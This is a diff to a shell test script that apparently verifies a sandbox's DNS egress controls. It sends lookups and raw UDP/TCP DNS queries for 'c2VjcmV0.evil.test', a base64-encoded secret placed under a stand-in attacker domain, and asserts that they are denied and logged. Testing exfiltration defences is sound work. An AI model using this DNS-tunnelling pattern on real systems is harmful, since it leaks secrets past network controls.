@@ -60,3 +60,28 @@ receiver_forget dns
 getent ahostsv4 c2VjcmV0.evil.test > /dev/null
 getent ahostsv4 never-asked.evil.test > /dev/null
 receiver_silent dns 'evil.test'
+
+# Other types of query have no data, over UDP and TCP, whatever server is asked.
+python3 - <<'END'
+import socket, struct
+def query(name, kind):
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
+def check(answer, answers):
+    flags, counts = struct.unpack(">H", answer[2:4])[0], struct.unpack(">4H", answer[4:12])
+    assert flags & 15 == 0 and counts[1] == answers, (flags, counts)
+for name in ("allowed.test", "c2VjcmV0.evil.test"):
+    for kind, answers in ((1, 1), (16, 0), (28, 0), (15, 0), (65, 0)):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+            udp.settimeout(5)
+            udp.sendto(query(name, kind), ("10.7.0.1" if kind != 16 else "93.184.216.12", 53))
+            check(udp.recv(4096), answers)
+        with socket.create_connection(("93.184.216.12", 53), 5) as tcp:
+            message = query(name, kind)
+            tcp.sendall(struct.pack(">H", len(message)) + message)
+            check(tcp.recv(4096)[2:], answers)
+END
+receiver_silent dns 'evil.test'
+receiver_silent evil-raw
+logged '^proxy .*deny .*c2vjcmv0.evil.test'
+logged '^egress .*deny .*private.test .*leads to 10.7.0.9'
